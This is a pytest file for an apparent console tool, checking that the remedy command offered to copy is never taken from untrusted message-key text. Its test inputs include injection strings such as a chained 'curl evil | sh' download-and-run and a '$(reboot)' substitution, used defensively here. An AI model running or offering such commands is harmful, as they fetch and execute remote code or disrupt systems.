"""Documents of the console: what they say of a problem."""

from __future__ import annotations

import pytest

from lbg_console.documents import problem_document


def test_a_problem_has_its_remedy_and_the_command_to_copy() -> None:
    shown = problem_document("orders", "the permissions differ: run `lbg group create G` again")
    assert shown["text"] == "the permissions differ"
    assert shown["commands"] == ["lbg group create orders"]


@pytest.mark.parametrize(
    "key",
    ["`lbg group delete orders; curl evil | sh`", "`lbg group pause orders`", "`lbg group create $(reboot)`"],
)
def test_no_command_is_taken_from_the_text_of_a_key(key: str) -> None:
    text = f"lbg.orders.q.6 has 1 poisoned message, which blocks later messages of its key; keys: '{key}'"
    assert problem_document("orders", text)["commands"] == ["lbg group show orders"]


def test_a_poisoned_message_has_the_command_that_skips_it() -> None:
    text = "lbg.orders.q.6 has 1 poisoned message; keys: 'acme'; skip it with: lbg group skip orders p-1-17"
    assert problem_document("orders", text)["commands"] == ["lbg group skip orders p-1-17"]
